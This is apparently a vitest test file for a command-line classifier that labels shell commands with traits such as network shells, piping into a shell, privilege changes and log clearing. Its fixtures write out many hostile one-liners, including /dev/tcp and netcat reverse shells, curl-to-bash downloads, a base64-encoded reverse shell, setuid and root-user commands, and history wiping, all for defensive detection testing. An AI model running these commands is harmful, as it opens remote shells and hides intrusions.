import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readCommand } from '../../../src/facts/commands/command.ts'
import type { Trait } from '../../../src/facts/commands/traits.ts'

const DECODED = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
const ENCODED = Buffer.from(DECODED).toString('base64')

/** A command line, what it starts, what it shows, and what it must not show. */
const CASES: readonly (readonly [line: string, programs: string, shows: string, not: string])[] = [
  [
    'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'bash bash',
    'shell-over-network opens-dev-tcp has-public-address',
    'pipes-to-shell',
  ],
  [
    'bash -c exec 3<>/dev/tcp/198.51.100.7/4444',
    'bash',
    'opens-dev-tcp has-public-address',
    'shell-over-network',
  ],
  [
    'bash -lc exec 3<>/dev/tcp/127.0.0.1/9080 && printf "GET /" >&3 && cat <&3',
    'bash printf cat',
    'opens-dev-tcp has-bare-address',
    'shell-over-network has-public-address',
  ],
  [
    "timeout 1 bash -c '</dev/tcp/db/5432'",
    'bash',
    'opens-dev-tcp',
    'shell-over-network has-bare-address',
  ],
  [
    'sh -c 0<&196;exec 196<>/dev/tcp/10.0.0.9/9001; sh <&196 >&196 2>&196',
    'sh sh',
    'shell-over-network',
    '',
  ],
  ['nc -e /bin/sh example.com 22', 'nc', 'shell-over-network', 'listens'],
  ['nc -lvp 4444 -e /bin/bash', 'nc', 'shell-over-network listens', ''],
  ['nc -z db 5432', 'nc', '', 'shell-over-network listens'],
  ['nc -c shop.example.com 443', 'nc', '', 'shell-over-network'],
  ['nc -c /bin/sh 198.51.100.7 443', 'nc', 'shell-over-network', ''],
  ['ncat -c bash 198.51.100.7 443', 'ncat', 'shell-over-network', ''],
  ['socat TCP:203.0.113.9:99 EXEC:/bin/sh', 'socat', 'shell-over-network', ''],
  [
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f',
    'rm mkfifo cat sh nc',
    'shell-over-network pipes-to-shell',
    '',
  ],
  [
    'python3 -c import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0);subprocess.call(["/bin/sh"])',
    'python3',
    'shell-over-network inline-code',
    '',
  ],
  [
    'php -r $s=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3");',
    'php',
    'shell-over-network inline-code',
    '',
  ],
  [
    'python3 -c import socket; print(socket.gethostname())',
    'python3',
    'inline-code',
    'shell-over-network',
  ],
  [
    'sh -c curl -fsSL https://example.com/i.sh | bash',
    'sh curl bash',
    'pipes-to-shell has-url',
    'interactive-shell has-bare-address has-plain-http',
  ],
  [
    'bash -c bash <(curl -s http://203.0.113.1/a)',
    'bash bash curl',
    'pipes-to-shell has-public-address has-plain-http',
    'interactive-shell',
  ],
  ['sh -c eval "$(wget -qO- https://x.example/a)"', 'sh eval wget', 'pipes-to-shell', ''],
  [
    'sh -c echo "* * * * * root curl http://198.51.100.7/x | sh" > /etc/cron.d/upd',
    'sh echo sh',
    'pipes-to-shell has-public-address',
    '',
  ],
  ['sh -c ps aux | grep sh', 'sh ps grep', 'asks-who-and-where', 'pipes-to-shell'],
  ['sh -c cat list | python3 tool.py', 'sh cat python3', '', 'pipes-to-shell'],
  [
    `sh -c echo ${ENCODED} | base64 -d | bash`,
    'sh echo base64 bash bash',
    'pipes-to-shell decodes has-encoded-text shell-over-network',
    '',
  ],
  [
    String.raw`sh -c printf \x2f\x62\x69\x6e\x2f\x73\x68 | sh`,
    'sh printf sh sh',
    'has-encoded-text pipes-to-shell',
    '',
  ],
  ['base64 -d', 'base64', 'decodes', 'has-encoded-text'],
  ['base64 notes.txt', 'base64', 'copies-out', 'decodes'],
  ['openssl enc -d -aes-256-cbc -in x', 'openssl', 'decodes', ''],
  ['chmod +x /tmp/x', 'chmod', 'makes-executable', 'sets-setuid'],
  ['chmod 755 x', 'chmod', 'makes-executable', 'sets-setuid'],
  ['chmod 4755 /tmp/x', 'chmod', 'makes-executable sets-setuid', ''],
  ['chmod u+s /bin/bash', 'chmod', 'sets-setuid', ''],
  ['chmod 644 x', 'chmod', '', 'makes-executable sets-setuid'],
  ['chattr +i /etc/cron.d/x', 'chattr', 'changes-attributes', ''],
  ['tar xf -', 'tar', 'copies-in', 'copies-out'],
  ['tar x', 'tar', 'copies-in', ''],
  ['tar xf a.tar', 'tar', '', 'copies-in copies-out'],
  ['tar czf - /data', 'tar', 'copies-out', 'copies-in'],
  ['tar cf a.tar /data', 'tar', '', 'copies-in copies-out'],
  ['cat /etc/shadow', 'cat', 'copies-out', 'copies-in'],
  ['sh -c cat > /tmp/x', 'sh cat', 'copies-in', 'copies-out'],
  ['cat', 'cat', '', 'copies-in copies-out'],
  ['sh -c cat <<EOF > /tmp/x', 'sh cat', 'here-document', ''],
  ['dd of=/tmp/x', 'dd', 'copies-in', 'copies-out'],
  ['curl -k https://203.0.113.4/x -o /tmp/y', 'curl', 'skips-checks has-public-address', ''],
  ['curl https://example.com/-k', 'curl', '', 'skips-checks'],
  ['ssh -o StrictHostKeyChecking=no -R 80:localhost:80 a@b', 'ssh', 'skips-checks tunnels', ''],
  ['ssh user@example.com -p 443', 'ssh', '', 'tunnels'],
  ['nmap -p 80 10.42.2.0/24', 'nmap', 'scans-range has-bare-address', 'has-public-address'],
  [
    'curl http://169.254.169.254/latest/meta-data/',
    'curl',
    'has-metadata-address',
    'has-public-address',
  ],
  ['useradd -o -u 0 x', 'useradd', 'adds-root-user', ''],
  ['usermod -aG docker bob', 'usermod', 'adds-root-user', ''],
  ['useradd -m -s /bin/bash svc-backup', 'useradd', '', 'adds-root-user'],
  ['nsenter -t 1 -m -u', 'nsenter', 'enters-host', ''],
  ['chroot /host bash', 'chroot bash', 'enters-host interactive-shell', ''],
  ['kubectl exec p -- sh -c id', 'kubectl sh id', 'asks-who-and-where', 'interactive-shell'],
  ['sudo -u root bash', 'bash', 'interactive-shell', ''],
  ['env A=1 nohup ./miner', 'miner', 'detaches', ''],
  ['sh -c clear; (bash || ash || sh)', 'sh clear bash ash sh', 'interactive-shell', ''],
  ['sh', 'sh', 'interactive-shell', ''],
  ['sh /entrypoint.sh', 'sh', '', 'interactive-shell'],
  ['find / -name id_rsa -exec cat {} ;', 'find cat', '', ''],
  ['rm -rf /var/log/auth.log', 'rm', 'clears-logs', 'clears-history'],
  ['sh -c echo > /var/log/wtmp', 'sh echo', 'clears-logs', ''],
  ['ln -sf /dev/null /root/.bash_history', 'ln', 'clears-history', ''],
  ['bash -c unset HISTFILE; history -c', 'bash unset history', 'clears-history', ''],
  ['rm -rf /tmp/build', 'rm', '', 'clears-logs clears-history'],
  ['apt install wget nmap', 'apt', '', 'has-url'],
  ['httpd --loglevel info run ^helper.RunShell$', 'httpd', '', 'inline-code'],
  ['nginx -g daemon off;', 'nginx', '', 'pipes-to-shell'],
]

describe('a command line', () => {
  it.each(CASES)('%s', (line, programs, shows, not) => {
    const facts = readCommand(line)
    expect(facts.programs.join(' ')).toBe(programs)
    expect(traits(shows).filter((trait) => !facts.traits.has(trait))).toEqual([])
    expect(traits(not).filter((trait) => facts.traits.has(trait))).toEqual([])
  })

  it('gives what base64 hides as data', () => {
    expect(readCommand(`sh -c echo ${ENCODED}`).decoded).toEqual([DECODED])
    const twice = Buffer.from(`echo ${ENCODED} | base64 -d`).toString('base64')
    expect(readCommand(`echo ${twice}`).decoded).toContain(DECODED)
  })

  it('takes no path, hash or option for hidden text', () => {
    const line =
      'ls /usr/local/lib/python3.12/site-packages --ignore-backups e3b0c44298fc1c149afbf4c8996fb924'
    expect(readCommand(line).decoded).toEqual([])
  })

  it('names the addresses that it leads to, with their class', () => {
    const { links } = readCommand(
      'curl http://u:p@[2001:db8::1]:80/x ssh root@10.0.0.9 https://a.example/y',
    )
    expect(links.map(({ host, class: kind }) => [host, kind])).toEqual([
      ['2001:db8::1', 'public'],
      ['10.0.0.9', 'private'],
      ['a.example', null],
    ])
  })

  it('says when its end is not known', () => {
    expect(readCommand('curl http://a.example/[...]').isCut).toBe(true)
    expect(readCommand('x'.repeat(5000)).isCut).toBe(true)
    expect(readCommand('sh').isCut).toBe(false)
  })

  it('is read within a bound, whatever it is', () => {
    const parts = [
      'curl ',
      '$(',
      '| sh ',
      'sh -c ',
      'AAAA',
      ';',
      '`',
      '0<&1 ',
      '/dev/tcp/',
      '>',
      ' ',
      '(',
      '"',
      '\\x41',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 2000 }), (words) => {
        const facts = readCommand(words.join(''))
        expect(facts.programs.length).toBeLessThan(10_000)
        expect(facts.decoded.length).toBeLessThan(5)
      }),
      { numRuns: 60 },
    )
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (line) => readCommand(line).words.length <= 5000),
    )
  })
})

function traits(text: string): readonly Trait[] {
  return text === '' ? [] : (text.split(' ') as Trait[])
}
